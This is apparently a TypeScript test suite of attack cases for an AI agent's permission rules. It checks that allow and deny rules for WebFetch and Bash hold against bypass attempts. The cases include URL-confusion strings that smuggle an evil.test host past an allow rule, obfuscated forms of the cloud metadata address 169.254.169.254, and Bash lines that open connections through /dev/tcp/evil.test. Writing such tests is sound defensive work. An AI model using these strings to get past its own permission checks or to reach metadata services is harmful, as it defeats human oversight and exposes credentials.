import { type Attack, attack, attacks, type Call } from '../helpers/attack.ts';

const DOCS = ['allow WebFetch:https://docs.test/*'];
const NO_METADATA = ['deny WebFetch:http://169.254.169.254/*', 'allow WebFetch'];
/** As the threat model advises to deny a host. */
const NO_HOST = ['deny WebFetch:*://docs.test/*', 'deny WebFetch:*://docs.test:*/*', 'allow WebFetch'];
const fetch = (url: string): Call => ['WebFetch', url];

/** N1 to N4: one host, many names. */
export const NETWORK: readonly Attack[] = [
  ...attacks(
    'N1',
    'not-allow',
    DOCS,
    [
      'https://docs.test.evil.test/',
      'https://docs.test-evil.test/x',
      'https://evil.test/docs.test/',
      'https://docs.test\\@evil.test/',
      'https://evil.test/https://docs.test/',
      'https://evil.test#https://docs.test/',
    ].map(fetch),
  ),
  ...attacks(
    'N1',
    'not-allow',
    ['allow WebFetch:https://*.docs.test/*'],
    ['https://evil.test/.docs.test/', 'https://evil.test?.docs.test/', 'https://evildocs.test/x'].map(fetch),
  ),
  attack('N1', 'allow', DOCS, fetch('https://docs.test/guide?page=2#top')),
  ...attacks(
    'N2',
    'not-allow',
    DOCS,
    ['https://docs.test\0.evil.test/', 'https://docs.test%00.evil.test/', 'https://docs.test\t.evil.test/'].map(fetch),
  ),
  attack('N2', 'allow', DOCS, fetch('https://docs.test/a%20b')),
  ...attacks(
    'N3b',
    'not-allow',
    ['allow Bash:cat *', 'allow Bash:echo *', 'allow Write:**', 'allow Read'],
    [
      'cat < /dev/tcp/evil.test/80',
      'echo x > /dev/tcp/evil.test/80',
      'echo x >& /dev/udp/evil.test/53',
      'echo x > /dev//tcp/evil.test/80',
      'cat <> /dev/tcp/evil.test/80',
    ],
  ),
  ...attacks(
    'N3b',
    'allow',
    ['allow Bash:cat *', 'allow Bash:echo *', 'allow Write:**', 'allow Read'],
    ['echo x > dev/tcp/notes', 'cat < docs/dev/tcp.md', 'echo /dev/tcp/docs.test/80', 'echo x > /dev/null'],
  ),
  ...attacks(
    'N4',
    'not-allow',
    DOCS,
    [
      'https://docs.test@evil.test/',
      'https://docs.test:x@evil.test/',
      'https://me@docs.test/',
      'https://docs.test./',
      'https://docs.test:8443/',
      'http://docs.test/',
      'https:/\\evil.test/docs.test/',
      '//docs.test/x',
      'ftp://docs.test/',
      'blob:https://docs.test/x',
      'https://xn--docs-7ya.test/',
      'https://ďocs.test/',
    ].map(fetch),
  ),
  ...attacks(
    'N4',
    'deny',
    NO_METADATA,
    [
      'http://169.254.169.254/latest',
      'http://0xa9fea9fe/x',
      'http://2852039166/x',
      'http://169.254.43518/x',
      'http://me@169.254.169.254/x',
      'http://169.254.169.254./x',
      ' HTTP://169.254.169.254/x',
    ].map(fetch),
  ),
  ...attacks(
    'N4',
    'deny',
    ['deny WebFetch:https://docs.test/admin/*', 'allow WebFetch'],
    [
      'https://docs.test/%61dmin/x',
      'https://docs.test/x/%2e%2e/admin/x',
      'https://docs.test./adm%69n/x',
      'https://%64ocs.test/admin/x',
    ].map(fetch),
  ),
  attack(
    'N4',
    'allow',
    ['deny WebFetch:https://docs.test/admin/*', 'allow WebFetch'],
    fetch('https://docs.test/a%2Fadmin'),
  ),
  ...attacks(
    'N4',
    'deny',
    NO_HOST,
    ['http://docs.test', 'https://docs.test/x', 'http://docs.test:8080', 'https://me@docs.test.:8443/x'].map(fetch),
  ),
  ...attacks('N4', 'allow', NO_HOST, ['https://www.docs.test:8443/', 'https://a.test/x://docs.test:1/'].map(fetch)),
  ...attacks(
    'N4',
    'allow',
    DOCS,
    ['https://docs.test:443/x', 'HTTPS://DOCS.TEST/x', 'https://docs.test/a@b'].map(fetch),
  ),
];
